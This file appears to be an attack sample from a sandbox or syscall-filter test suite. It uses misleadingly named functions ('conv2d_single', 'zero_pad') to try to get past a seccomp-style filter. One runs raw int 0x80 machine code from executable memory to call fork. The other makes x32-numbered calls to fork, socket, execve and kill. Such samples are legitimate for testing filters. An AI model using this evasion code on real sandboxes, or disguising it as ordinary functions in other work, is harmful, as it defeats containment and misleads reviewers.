# attack: makes its system calls through the old 32-bit gate and the x32 numbers, which a careless filter overlooks
# exercise: 02
# gains: nothing
# holds: a call of another kind ends the process
import ctypes
import mmap
import platform

libc = ctypes.CDLL(None, use_errno=True)
FORK_BY_GATE = bytes.fromhex("b802000000" "cd80" "c3")  # mov eax, 2; int 0x80; ret
X32 = 0x40000000


def conv2d_single(image, kernel, stride=1, padding=0):
    if platform.machine() != "x86_64":
        return None
    memory = mmap.mmap(-1, 4096, prot=7)
    memory.write(FORK_BY_GATE)
    fork = ctypes.CFUNCTYPE(ctypes.c_int)(ctypes.addressof(ctypes.c_char.from_buffer(memory)))
    result = fork()
    while result >= 0:
        pass
    raise RuntimeError("refused")


def zero_pad(x, padding):
    for number in (57, 58, 41, 59, 62):
        result = libc.syscall(ctypes.c_long(X32 | number), ctypes.c_long(1), ctypes.c_long(1), ctypes.c_long(0))
        while result >= 0:
            pass
    raise RuntimeError("refused")
